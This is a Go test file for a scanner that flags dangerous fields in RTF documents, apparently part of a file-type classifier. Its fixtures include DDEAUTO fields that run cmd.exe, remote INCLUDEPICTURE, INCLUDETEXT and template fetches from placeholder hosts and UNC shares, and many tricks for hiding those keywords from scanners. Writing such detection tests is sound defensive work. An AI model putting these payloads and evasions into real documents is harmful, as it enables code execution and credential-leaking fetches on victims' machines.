package filetype

import (
	"strings"
	"testing"
)

// TestRTFFields: an RTF document's fields are Word's, and Word runs or
// fetches them as it does a DOCX's: DDEAUTO runs a program,
// INCLUDEPICTURE and INCLUDETEXT fetch from a share or the web, a
// HYPERLINK may point at a share. Their codes are read as Word reads
// them: split over groups with formatting, escaped as \'hh or \uN, with
// \bin data before them, across the windows the document is read in, or
// left open at its end. Before, only objects and templates were looked
// for: an RTF (or a .doc that is one) with DDEAUTO was kept.
func TestRTFFields(t *testing.T) {
	const (
		dde      = "office: external reference ddeauto field"
		picture  = "office: external reference includepicture field"
		text     = "office: external reference includetext field"
		share    = "office: link to a network share (UNC path)"
		notRead  = "office: fields not inspected"
		rtfStart = `{\rtf1\ansi\ansicpg932\deff0{\fonttbl{\f0\fnil MS Mincho;}}`
	)
	var cases []classifyCase
	for _, c := range []struct {
		name, body string
		finding    string
	}{
		{"DDEAUTO", `{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}{\fldrslt x}}`, dde},
		{"DDEAUTO in lower case, without \\*", `{\field{\fldinst ddeauto c:\\x.exe "/k"}}`, dde},
		{"INCLUDEPICTURE split over formatted groups", `{\field{\*\fldinst {\rtlch\fcs1 \af0 \ltrch INCLU}{\rtlch DEPICTURE "\\\\\\\\192.0.2.1\\\\s\\\\a.png" \\d}}{\fldrslt }}`, picture},
		{"a keyword escaped as \\'hh", `{\field{\*\fldinst \'49NCLUDEPICTURE "http://evil.example/a.png"}}`, picture},
		{"a keyword escaped as \\uN", `{\field{\*\fldinst \u73?NCLUDETEXT "http://evil.example/a"}}`, text},
		{"\\uN with two stand-ins", `{\uc2{\field{\*\fldinst \u68 ab\u68\'81\'82EAUTO x}}}`, dde},
		{"\\bin data holding braces", `{\field{\*\fldinst {\*\x\bin2 }}}INCLUDETEXT "http://evil.example/a"}}`, text},
		{"a bookmark before the keyword", `{\field{\*\fldinst {\*\bkmkstart a}{\*\bkmkend a}INCLUDETEXT "\\\\\\\\evil\\\\s\\\\t.docx"}}`, text},
		{"a field inside another's code", `{\field{\*\fldinst QUOTE {\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}{\fldrslt }}}}`, picture},
		{"text after a field inside another's code", `{\field{\*\fldinst INCLUDETEXT {\field{\*\fldinst PAGE}{\fldrslt 1}} "http://evil.example/a"}}`, text},
		{"a keyword made by another field", `{\field{\*\fldinst {\field{\*\fldinst QUOTE "DDEAUTO"}{\fldrslt DDEAUTO}} calc}}`, notRead},
		{"\\bin too large to follow", `{\pict\bin4294967297 x}{\field{\*\fldinst DDEAUTO x}}`, notRead},
		{"fields nested past the bound", strings.Repeat(`{\field{\*\fldinst IF `, maxFieldNesting+1) + strings.Repeat("}}", maxFieldNesting+1), notRead},
		{"a field left open", `{\field{\*\fldinst {INCLUDETEXT "http://evil.example/a"`, text}, // the last "}" closes only "{INCLUDETEXT"
		{"HYPERLINK to a share", `{\field{\*\fldinst HYPERLINK "\\\\\\\\evil.example\\\\s\\\\x.xlsx"}{\fldrslt open}}`, share},
		{"a control word longer than a window's tail", `{\field{\*\fldinst \b` + strings.Repeat("0", rtfTail) + ` DDEAUTO x}}`, notRead},
		{"\\BIN, which Word does not know, taken for \\bin", `{\field{\*\fldinst \BIN1 DDEAUTO c:\\x.exe}}`, notRead},
		{"\\U, which Word does not know, taken for \\u", `{\field{\*\fldinst \U120 DDEAUTO c:\\x.exe}}`, notRead},
		{"\\Uc0 taken for \\uc", `{\field{\*\fldinst \Uc0\u68 DDEAUTO c:\\x.exe}}`, notRead},
		{"a control word as a \\uN's stand-in", `{\field{\*\fldinst \u68\b DEAUTO c:\\x.exe}}`, notRead},
		{"\\bin as a \\uN's stand-in", `{\field{\*\fldinst \u68\bin1 XDEAUTO c:\\x.exe}}`, notRead},
		{"a group as a \\uN's stand-in", `{\field{\*\fldinst \u68{}DEAUTO c:\\x.exe}}`, notRead},
		{"a NUL in the keyword", "{\\field{\\*\\fldinst DD\x00EAUTO c:\\\\x.exe}}", dde},
		{"other control bytes in the keyword", "{\\field{\\*\\fldinst INCLUDEPIC\x01\x0b\x0c\x1fTURE \"http://evil.example/a.png\"}}", picture},
		{"a NUL as a \\uN's stand-in", "{\\field{\\*\\fldinst \\u68\x00DEAUTO c:\\\\x.exe}}", notRead},
		{"\\fldinst with a line break in it", "{\\field{\\*\\fld\r\ninst DDEAUTO c:\\\\x.exe}}", notRead},
		{"\\bin with a line break in it, in a code", "{\\field{\\*\\fldinst \\b\r\nin1 XDDEAUTO c:\\\\x.exe}}", notRead},
		{"\\objdata with line breaks in it", "{\\*\\obj\r\nda\nta 0105000002}", "office: embedded object"},
		{"\\object with a line break in it", "{\\ob\r\nject{\\*\\objclass Equation.3}}", "office: embedded object"},
		{"\\template with a line break in it", "{\\*\\temp\r\nlate http://evil.example/t.dotm}", "office: external reference template"},
		{"\\listtext, which Word drops, before the keyword", `{\field{\*\fldinst {\listtext X}DDEAUTO c:\\x.exe}}`, notRead},
		{"\\upr's ANSI text before the keyword", `{\field{\*\fldinst {\upr{X}{\*\ud DDEAUTO}} c:\\x.exe}}`, notRead},
		{"a picture before the keyword", `{\field{\*\fldinst {\pict\wmetafile8 0100}DDEAUTO c:\\x.exe}}`, notRead},
		{"a keyword in groups nested past the bound", `{\field{\*\fldinst ` + strings.Repeat("{", maxRTFDepth) + `DDEAUTO c:\\x.exe` + strings.Repeat("}", maxRTFDepth) + `}}`, notRead},
		{"a tracked deletion in the keyword", `{\field{\*\fldinst DDE{\deleted\revauthdel1 XXX}AUTO c:\\x.exe}}`, notRead},
		{"a tracked deletion in a HYPERLINK's target", `{\field{\*\fldinst HYPERLINK "https://www.city.example.lg.jp/{\deleted x}"}{\fldrslt open}}`, notRead},
		{"past the first window", strings.Repeat(`{\b x}`, scanWindow/6+100) + `{\field{\*\fldinst DDEAUTO x}}`, dde},
	} {
		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", findings: []string{c.finding}})
	}
	for _, c := range []struct{ name, body string }{
		{"HYPERLINK to the web, PAGE, a date", `{\field{\*\fldinst HYPERLINK "https://www.city.example.lg.jp/"}{\fldrslt \'8e\'73}}{\field{\*\fldinst PAGE}}{\field{\*\fldinst DATE \\@ "yyyy"}}`},
		{"the words as text", `INCLUDEPICTURE DDEAUTO {\b INCLUDETEXT} {\*\datafield DDEAUTO}`},
		{"a code in Japanese, \\uN with cp932 stand-ins", `{\uc2{\field{\*\fldinst HYPERLINK "https://www.city.example.lg.jp/\u36039\'8e\'91\u26009\'97\'bf.pdf"}{\fldrslt \u36039\'8e\'91}}}`},
		{"line breaks after control words", "{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0\r\n\\ltrch\\insrsid123 \r\nPAGE}}{\\fldrslt\r\n1}}\r\n\\par\r\n\\b\r\nx"},
		{"a list item's text and a picture after a field's keyword", `{\listtext 1.}{\field{\*\fldinst HYPERLINK "https://example.lg.jp/" {\pict 00}}{\fldrslt {\pict 00}}}`},
		{"a field's result", `{\field{\*\fldinst PAGE}{\fldrslt DDEAUTO x}}`},
		{"tracked deletions outside codes, \\deleted0 in one", `{\deleted old text}{\field{\*\fldinst PAGE {\deleted0 x}}{\fldrslt {\deleted 1}}}`},
	} {
		cases = append(cases, classifyCase{name: c.name, data: []byte(rtfStart + c.body + "}"), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", clean: true})
	}
	runClassify(t, cases)
}

// TestRTFWindows: a field code cut by the end of a window, at every
// offset, is read whole.
func TestRTFWindows(t *testing.T) {
	field := `{\field{\*\fldinst DDEAUTO c:\\x.exe}}`
	for cut := -len(field) - 2; cut <= 2; cut++ {
		pad := scanWindow + cut - len(`{\rtf1 `)
		doc := `{\rtf1 ` + strings.Repeat("a", pad) + field + "}"
		var codes []string
		s := rtfScanner{field: func(c string) { codes = append(codes, c) }}
		scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
		if len(codes) != 1 || !strings.HasPrefix(codes[0], "DDEAUTO ") {
			t.Errorf("field cut at %d: codes %q", cut, codes)
		}
	}
}

// TestRTFLongControlWord: a control word whose letters or number run
// past rtfTail could be cut by a window's end, the rest of it then read
// as a code's text ("0000DDEAUTO" has no keyword): such a word makes the
// document's fields not inspected, wherever the windows fall.
func TestRTFLongControlWord(t *testing.T) {
	for _, long := range []string{`\b` + strings.Repeat("0", 400), `\x` + strings.Repeat("a", 400)} {
		field := `{\field{\*\fldinst ` + long + ` DDEAUTO c:\\x.exe}}`
		for cut := -len(field) - 2; cut <= 2; cut++ {
			pad := scanWindow + cut - len(`{\rtf1 `)
			doc := `{\rtf1 ` + strings.Repeat("a", pad) + field + "}"
			s := rtfScanner{field: func(string) {}}
			scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
			if !s.unknown {
				t.Errorf("%.10s... cut at %d: fields read as inspected", long, cut)
			}
		}
	}
}

// BenchmarkRTFScan reads a document of 8 MiB, most of it a picture's hex
// digits, as Word saves a picture in RTF.
func BenchmarkRTFScan(b *testing.B) {
	doc := `{\rtf1{\field{\*\fldinst HYPERLINK "https://example.jp/"}{\fldrslt x}}{\pict\pngblip ` + strings.Repeat("89504e470d0a1a0a", 1<<20) + `}}`
	b.SetBytes(int64(len(doc)))
	for b.Loop() {
		s := rtfScanner{field: func(string) {}}
		scanStream(strings.NewReader(doc), int64(len(doc)), s.scan)
	}
}
